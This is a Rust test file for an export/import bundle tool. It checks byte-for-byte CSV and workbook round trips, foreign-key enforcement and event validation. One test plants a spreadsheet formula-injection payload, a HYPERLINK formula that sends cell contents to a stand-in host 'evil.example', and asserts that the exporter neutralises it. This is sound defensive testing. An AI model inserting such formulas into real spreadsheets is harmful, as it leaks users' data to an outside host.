//! Export → import → export reproduces the same bytes, for CSV folders and workbooks.

use std::path::Path;

use chainatlas_bundle::{export, import, ImportOptions};
use chainatlas_demo::{records as demo_records, records_with_events, DemoConfig};
use chainatlas_model::Record;
use chainatlas_store::Store;
use proptest::prelude::*;

fn store_with(dir: &Path, name: &str, records: &[Record]) -> Store {
    let mut store = Store::open(dir.join(name)).unwrap();
    let mut writer = store.writer().unwrap();
    for r in records {
        writer.insert(r).unwrap();
    }
    writer
        .commit(
            &chainatlas_store::Actor::local("tests", 0),
            &chainatlas_store::Change::new("test", "atlas", 0),
        )
        .unwrap();
    store
}

/// The files of an export: (name, bytes), sorted by name.
type Files = Vec<(String, Vec<u8>)>;

fn read_all(dir: &Path) -> Files {
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            (
                p.file_name().unwrap().to_string_lossy().into_owned(),
                std::fs::read(&p).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

/// Exports `records` to `format` ("csv" folder or "xlsx"), imports that into a new
/// database, exports again, and returns both exports' bytes.
fn round_trip(records: &[Record], xlsx: bool) -> (Files, Files) {
    let dir = tempfile::tempdir().unwrap();
    let first = store_with(dir.path(), "first.db", records);
    let (a, b) = if xlsx {
        (dir.path().join("a.xlsx"), dir.path().join("b.xlsx"))
    } else {
        (dir.path().join("a"), dir.path().join("b"))
    };
    export(&first, &a, &mut |_| {}).unwrap();
    let mut second = Store::open(dir.path().join("second.db")).unwrap();
    import(
        &mut second,
        &a,
        ImportOptions::default(),
        &tester(),
        &mut |_| {},
    )
    .unwrap();
    assert_eq!(first.counts().unwrap(), second.counts().unwrap());
    // The import checks references itself (the database does not during the load):
    // every row's references find their records.
    assert_eq!(second.foreign_key_violations().unwrap(), 0);
    assert_references_are_enforced_again(&mut second);
    export(&second, &b, &mut |_| {}).unwrap();
    let bytes = |p: &Path| {
        if xlsx {
            vec![(String::new(), std::fs::read(p).unwrap())]
        } else {
            read_all(p)
        }
    };
    (bytes(&a), bytes(&b))
}

/// After an import the store's connection refuses a dangling reference again.
fn assert_references_are_enforced_again(store: &mut Store) {
    use chainatlas_model::{EnterpriseId, Money, NodeId, SupplyRelation, SupplyRelationId};
    let mut writer = store.writer().unwrap();
    let dangling = Record::SupplyRelation(SupplyRelation {
        id: SupplyRelationId(i64::MAX - 1),
        supplier: EnterpriseId(i64::MAX - 2),
        buyer: EnterpriseId(i64::MAX - 3),
        node: NodeId(i64::MAX - 4),
        annual_value: Money::from_fen(100),
    });
    // Refused at the row, or at commit where the schema defers the check.
    let written = writer.insert(&dangling).is_ok()
        && writer
            .commit(
                &tester(),
                &chainatlas_store::Change::new("test", "relation", 0),
            )
            .is_ok();
    assert!(!written, "a dangling reference was written");
}

#[test]
fn the_demo_round_trips_through_csv_byte_for_byte() {
    let records = records_with_events(&DemoConfig::demo(2024));
    let (first, second) = round_trip(&records, false);
    assert_eq!(first.len(), 13, "one file per entity");
    let lines = |name: &str| {
        let (_, bytes) = first.iter().find(|(n, _)| n == name).unwrap();
        String::from_utf8_lossy(bytes).lines().count() - 1
    };
    // The demo's events: participants, requests, meetings and agreements travel too.
    assert_eq!(lines("events.csv"), 2);
    assert!(lines("event_participants.csv") > 50);
    assert!(lines("meeting_requests.csv") > 50);
    assert!(lines("meetings.csv") > 20);
    assert!(lines("agreements.csv") > 10);
    for ((name, a), (_, b)) in first.iter().zip(&second) {
        if a != b {
            let (a, b) = (String::from_utf8_lossy(a), String::from_utf8_lossy(b));
            let line = a.lines().zip(b.lines()).find(|(x, y)| x != y);
            eprintln!(
                "{name} differs: {line:?} ({} vs {} lines)",
                a.lines().count(),
                b.lines().count()
            );
        }
    }
    assert!(first == second, "CSV export differs after a round trip");
}

#[test]
fn the_demo_round_trips_through_xlsx_byte_for_byte() {
    let records = records_with_events(&DemoConfig {
        enterprises: 400,
        listings: 40,
        ..DemoConfig::demo(7)
    });
    let (first, second) = round_trip(&records, true);
    assert!(
        first == second,
        "workbook export differs after a round trip"
    );
}

/// Text that stresses CSV quoting and Unicode, trimmed as the importer trims cells.
fn hostile_text() -> impl Strategy<Value = String> {
    proptest::string::string_regex("[a-z中文，\",;\n\r '=+\\-@]{1,12}")
        .unwrap()
        .prop_map(|s| s.trim().to_string())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]
    #[test]
    fn any_atlas_round_trips(seed in 0u64..1000, enterprises in 1u32..60, names in proptest::collection::vec(hostile_text(), 60), xlsx: bool) {
        let mut records = demo_records(&DemoConfig { enterprises, listings: enterprises / 3, ..DemoConfig::demo(seed) });
        let mut names = names.into_iter().filter(|n| !n.is_empty()).cycle();
        for r in &mut records {
            if let (Record::Enterprise(e), Some(name)) = (r, names.next()) {
                e.name_zh = name.clone();
                e.name_en = name;
            }
        }
        let (first, second) = round_trip(&records, xlsx);
        prop_assert!(first == second);
    }
}

fn tester() -> chainatlas_store::Actor {
    chainatlas_store::Actor::local("tests", 0)
}

#[test]
fn formulas_leave_as_text_and_come_back_as_they_were() {
    let mut records = demo_records(&DemoConfig {
        enterprises: 20,
        listings: 5,
        ..DemoConfig::demo(3)
    });
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"x")"#;
    for r in &mut records {
        if let Record::Enterprise(e) = r {
            e.name_zh = formula.to_string();
            e.name_en = "@SUM(A1:A9)".to_string();
            break;
        }
    }
    let (first, second) = round_trip(&records, false);
    assert!(first == second, "CSV export differs after a round trip");
    let (_, enterprises) = first
        .iter()
        .find(|(name, _)| name.as_str() == "enterprises.csv")
        .unwrap();
    let text = String::from_utf8_lossy(enterprises);
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")""#),
        "{text}"
    );
    assert!(text.contains(",'@SUM(A1:A9),"));
    for line in text.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '@']), "a formula cell: {line}");
        }
    }
}

#[test]
fn an_events_records_must_fit_the_event() {
    let dir = tempfile::tempdir().unwrap();
    let records = records_with_events(&DemoConfig {
        enterprises: 300,
        listings: 60,
        ..DemoConfig::demo(5)
    });
    let first = store_with(dir.path(), "first.db", &records);
    let bundle = dir.path().join("bundle");
    export(&first, &bundle, &mut |_| {}).unwrap();
    // A participant in a group the event does not have; a meeting in a slot it lacks.
    let edit = |name: &str, column: &str, value: &str| {
        let path = bundle.join(name);
        let text = std::fs::read_to_string(&path).unwrap();
        let mut lines: Vec<String> = text.lines().map(String::from).collect();
        let header: Vec<&str> = lines[0].trim_start_matches('\u{feff}').split(',').collect();
        let at = header.iter().position(|h| *h == column).unwrap();
        let mut cells: Vec<String> = lines[1].split(',').map(String::from).collect();
        cells[at] = value.into();
        lines[1] = cells.join(",");
        std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    };
    edit("event_participants.csv", "group", "观众");
    edit("meetings.csv", "slot", "999");
    let mut second = Store::open(dir.path().join("second.db")).unwrap();
    let refused = import(
        &mut second,
        &bundle,
        ImportOptions::default(),
        &tester(),
        &mut |_| {},
    )
    .unwrap_err();
    let chainatlas_bundle::ImportError::Invalid { problems, .. } = refused else {
        panic!("expected problems, got {refused:?}");
    };
    let found: Vec<String> = problems.iter().map(|p| p.to_string()).collect();
    assert!(
        found.iter().any(|p| p.starts_with(
            "event_participants.csv line 2, column group: '观众' is not a group of the event"
        )),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .any(|p| p.starts_with("meetings.csv line 2, column slot:")),
        "{found:?}"
    );
    assert_eq!(second.counts().unwrap().events, 0, "nothing was written");
}
